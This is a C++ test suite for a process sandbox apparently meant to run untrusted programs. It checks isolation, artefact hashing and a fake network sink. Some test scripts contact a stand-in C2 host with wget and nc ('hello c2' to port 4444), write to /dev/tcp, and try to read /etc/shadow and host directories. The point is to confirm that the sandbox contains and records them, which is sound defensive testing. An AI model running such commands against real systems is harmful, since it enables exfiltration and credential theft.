// What a program in a process sandbox sees and does not see.

#include <grp.h>
#include <sys/wait.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "common/base/file.h"
#include "tests/kernel/sandbox_rig.h"

namespace shrike::sandbox::test {
namespace {

class ProcessSandbox : public Sandboxed {
 protected:
  static Ran shell(const std::string& script, Asked asked = ask("/bin/busybox")) {
    asked.job.arguments = {"/bin/busybox", "sh", "-c", script};
    return run_here(std::move(asked));
  }
};

TEST_P(ProcessSandbox, GivesOutputExitCodeAndHashes) {
  const Ran ran = shell("echo out; echo err >&2; exit 7");
  EXPECT_EQ(ran.report.status, Status::ok);
  EXPECT_EQ(ran.report.exit_code, 7);
  EXPECT_EQ(ran.out, "out\n");
  EXPECT_EQ(ran.err, "err\n");
  EXPECT_EQ(ran.report.stdout_kept, 4u);
  EXPECT_EQ(ran.report.program_sha256, *sha256_of_file(sealed_file("/bin/busybox")->get()));
  EXPECT_EQ(ran.report.policy_sha256.size(), 64u);
  EXPECT_GT(ran.report.peak_memory_bytes, 0u);
  EXPECT_GT(ran.report.calls, 10u);
  EXPECT_GE(ran.report.steps.size(), 6u);
}

TEST_P(ProcessSandbox, TakesInputFilesEnvironmentAndFolder) {
  Asked asked = ask("/bin/busybox");
  asked.input = "the input\n";
  asked.files = {{"/data/deep/file", "content\n"}, {"/etc/extra.conf", "conf\n"}};
  asked.job.environment.emplace_back("NAME=value with spaces");
  asked.job.cwd = "/data/deep";
  const Ran ran = shell("cat; cat file /etc/extra.conf; echo $NAME; pwd; echo more >> file", std::move(asked));
  EXPECT_EQ(ran.out, "the input\ncontent\nconf\nvalue with spaces\n/data/deep\n");
  ASSERT_EQ(ran.report.artefacts.size(), 1u) << "only what it has changed";
  EXPECT_EQ(ran.report.artefacts[0].path, "/data/deep/file");
}

TEST_P(ProcessSandbox, WhatItWroteIsAnArtefactWithItsHash) {
  const Ran ran = shell(
      "printf abc > /tmp/a; mkdir -p /var/x; printf '' > /var/x/empty; printf x > /tmp/gone; rm /tmp/gone;"
      "ln -s /etc/shadow /tmp/link; printf secret > /root/.hidden; chmod 000 /root/.hidden");
  std::map<std::string, Artefact> found;
  for (const auto& artefact : ran.report.artefacts) found[artefact.path] = artefact;
  EXPECT_EQ(found.size(), 4u);
  EXPECT_EQ(found["/tmp/a"].sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(found["/tmp/a"].size_bytes, 3u);
  EXPECT_TRUE(found.contains("/var/x/empty"));
  EXPECT_EQ(found["/tmp/link"].sha256, "") << "a link is told, and not followed";
  EXPECT_EQ(found["/root/.hidden"].sha256.size(), 64u) << "modes are the program's";
}

TEST_P(ProcessSandbox, SeesNothingOfThisHost) {
  const Ran ran = shell(
      "hostname; id -u; echo $$; ls /proc | grep -c '^[0-9]'; cat /proc/self/net/dev | grep -c eth; ls /sys /home "
      "/root "
      "/mnt;"
      "ls /tmp; cat /etc/passwd | wc -l; ls /dev | grep -v -e pts -e shm; cat /etc/shadow");
  EXPECT_EQ(ran.out.substr(0, 9), "host\n0\n2\n");
  EXPECT_EQ(ran.out.find("shrike"), std::string::npos) << ran.out;
  EXPECT_NE(ran.out.find("busybox\n8\n"), std::string::npos) << "/tmp has the program, /etc/passwd eight lines:\n"
                                                             << ran.out;
  const size_t hash = ran.out.find("root:$y$");
  ASSERT_NE(hash, std::string::npos) << "bait is there";
  EXPECT_EQ(read_file("/etc/shadow")->find(ran.out.substr(hash, 60)), std::string::npos) << "and made up";
  EXPECT_EQ(ran.out.find("sda"), std::string::npos);
}

TEST_P(ProcessSandbox, ItsProcessorsUserIsNobodyHere) {
  // While it runs, its user id on this host is one that owns nothing else.
  const Ran ran = shell("cat /proc/self/uid_map; touch /tmp/x; ls -n /tmp/x | awk '{print $3}'");
  uint64_t inside = 1, outside = 0, count = 0;
  std::istringstream(ran.out) >> inside >> outside >> count;
  EXPECT_EQ(inside, 0u);
  EXPECT_GE(outside, 0x70000000u);
  EXPECT_EQ(count, 1u);
}

TEST_P(ProcessSandbox, ADynamicallyLinkedProgramRuns) {
  const Ran ran = run_here(ask("/usr/bin/env", {"printf", "%s", "dynamic"}));
  EXPECT_EQ(ran.report.status, Status::ok) << ran.report.cause;
  EXPECT_EQ(ran.out, "dynamic");
  ASSERT_FALSE(ran.report.processes.empty());
  EXPECT_EQ(ran.report.processes[0].exe, "/usr/bin/printf");
}

TEST_P(ProcessSandbox, AScriptRunsByItsPath) {
  const std::string script = std::filesystem::temp_directory_path() / ("shrike-script-" + std::to_string(::getpid()));
  std::ofstream(script) << "#!/bin/sh\necho from $0\n";
  const Ran ran = run_here(ask(script));
  std::filesystem::remove(script);
  EXPECT_EQ(ran.report.status, Status::ok) << ran.report.cause;
  EXPECT_EQ(ran.out, "from /tmp/" + std::filesystem::path(script).filename().string() + "\n");
}

TEST_P(ProcessSandbox, WhatIsNoProgramIsASetUpError) {
  const std::string file = std::filesystem::temp_directory_path() / ("shrike-none-" + std::to_string(::getpid()));
  std::ofstream(file) << "\x7f"
                         "ELF and no more";
  Asked asked = ask(file);
  asked.notify = GetParam();
  const Ran ran = run(std::move(asked));
  std::filesystem::remove(file);
  EXPECT_EQ(ran.refused, "");
  EXPECT_EQ(ran.report.status, Status::setup_error);
  EXPECT_NE(ran.report.cause.find("exec"), std::string::npos) << ran.report.cause;
}

TEST_P(ProcessSandbox, TheSinkAnswersAndKeepsWhatWasSent) {
  const Ran ran =
      shell("wget -q -O - http://evil.example.com/path?query; printf 'hello c2' | nc -w 1 198.51.100.9 4444; echo $?");
  EXPECT_EQ(ran.out.substr(0, 3), "ok\n") << ran.out << ran.err;
  std::map<std::string, Connection> met;
  for (const auto& c : ran.report.connections) met[c.protocol + " " + c.address] = c;
  EXPECT_EQ(met["http 203.0.113.7:80"].first_bytes.substr(0, 16), "GET /path?query ");
  EXPECT_GT(met["http 203.0.113.7:80"].received_bytes, 0u);
  EXPECT_EQ(met["http 203.0.113.7:80"].name, "evil.example.com");
  EXPECT_EQ(met["dns 203.0.113.53:53"].name, "evil.example.com");
  EXPECT_NE(met["dns 203.0.113.53:53"].pid, 0u);
  EXPECT_EQ(met["tcp 198.51.100.9:4444"].first_bytes, "hello c2");
  EXPECT_EQ(met["tcp 198.51.100.9:4444"].sent_bytes, 8u);
  EXPECT_NE(met["tcp 198.51.100.9:4444"].pid, 0u);
}

TEST_P(ProcessSandbox, WithoutANetworkThereIsNone) {
  Asked asked = ask("/bin/busybox");
  asked.job.network = Network::none;
  const Ran ran = shell("cat /proc/self/net/dev; nc -w 1 127.0.0.1 80; echo $?", std::move(asked));
  EXPECT_NE(ran.out.find("lo:"), std::string::npos);
  EXPECT_TRUE(ran.out.ends_with("1\n")) << ran.out;
  EXPECT_NE(ran.refusal("socket(AF_INET"), nullptr);
  for (const auto& c : ran.report.connections) EXPECT_EQ(c.protocol, "unix");
}

INSTANTIATE_TEST_SUITE_P(Tracer, ProcessSandbox, ::testing::Values(false, true), tracer_name);

TEST(EbpfSandbox, EveryPortReachesTheSinkAndLoopbackIsThePrograms) {
  SHRIKE_NEED("root", ::geteuid() == 0);
  const Ran ran =
      run(ask("/bin/bash", {"-c",
                            "for p in 1 31337 65535; do printf port$p > /dev/tcp/2001:db8::9/$p; done;"
                            "printf x > /dev/udp/198.51.100.9/9;"
                            "busybox nc -l -p 5000 > /tmp/got & until grep -q :1388 /proc/self/net/tcp*; do :; done;"
                            "printf local > /dev/tcp/127.0.0.1/5000; wait; cat /tmp/got"}));
  ASSERT_EQ(ran.report.trace, "ebpf");
  std::map<std::string, Connection> met;
  for (const auto& c : ran.report.connections) met[c.protocol + " " + c.address] = c;
  for (const char* port : {"1", "31337", "65535"})
    EXPECT_EQ(met["tcp [2001:db8::9]:" + std::string(port)].first_bytes, "port" + std::string(port));
  EXPECT_EQ(met["udp 198.51.100.9:9"].sent_bytes, 1u);
  EXPECT_EQ(ran.out, "local") << ran.err;
}

// As a user without privileges: a copy of the programs that he may read, in a process that cannot come back.
TEST(UnprivilegedSandbox, RunsAndSaysWhatWasMissing) {
  SHRIKE_NEED("root", ::geteuid() == 0);
  const std::string folder = std::filesystem::temp_directory_path() / ("shrike-user-" + std::to_string(::getpid()));
  std::filesystem::create_directory(folder);
  std::filesystem::copy_file(SHRIKE_BIN_DIR "/shrike-sandbox", folder + "/shrike-sandbox");
  std::filesystem::permissions(folder + "/shrike-sandbox", std::filesystem::perms(0755));
  std::filesystem::permissions(folder, std::filesystem::perms(0755));
  const pid_t child = ::fork();
  if (child == 0) {
    if (::setgroups(0, nullptr) != 0 || ::setgid(4242) != 0 || ::setuid(4242) != 0) ::_exit(10);
    Asked asked = ask("/bin/busybox", {"sh", "-c", "id -u; echo x > /tmp/new; unshare -U true"});
    auto program = sealed_file("/bin/busybox");
    JobFiles files;
    files.program = std::move(*program);
    ClientOptions options{"", folder + "/shrike-sandbox", {}};
    auto client = JobClient::start(options, asked.job, files);
    if (!client) ::_exit(11);
    std::string out;
    JobEvents events;
    events.out = [&](std::string_view text) { out += text; };
    const auto report = client->finish(events);
    if (!report) ::_exit(12);
    if (report->status != Status::ok || out != "0\n") ::_exit(13);
    if (report->artefacts.size() != 1 || report->trace != "notify" || report->calls_denied == 0) ::_exit(14);
    if (report->notes.size() < 3) ::_exit(15);
    ::_exit(0);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(child, &status, 0), child);
  std::filesystem::remove_all(folder);
  EXPECT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0);
}

}  // namespace
}  // namespace shrike::sandbox::test
